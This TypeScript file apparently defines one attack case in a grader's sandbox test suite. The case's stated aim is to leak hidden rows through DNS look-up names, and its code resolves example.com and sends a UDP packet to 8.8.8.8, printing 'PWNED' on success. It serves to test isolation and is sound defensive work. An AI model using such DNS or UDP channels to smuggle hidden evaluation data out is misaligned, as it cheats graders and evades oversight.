import { type Attack, modelSource } from '#grader/attack/attack.ts'

export const attack: Attack = {
  number: 19,
  title: 'UDP and DNS',
  intent: 'Send hidden rows away in the names of look-ups.',
  kind: 'model',
  verdicts: ['scored'],
  source: modelSource({
    buildModel: `const dns = node('dns')
  const dgram = node('dgram')
  await new Promise<void>((resolve) => dns.lookup('example.com', (error: unknown, address: unknown) => {
    if (address) console.log('PWNED resolved')
    resolve()
  }))
  await new Promise<void>((resolve) => {
    const socket = dgram.createSocket('udp4')
    socket.on('error', () => resolve())
    socket.send('x', 53, '8.8.8.8', (error: unknown) => { if (!error) console.log('PWNED sent'); resolve() })
  })`,
  }),
}
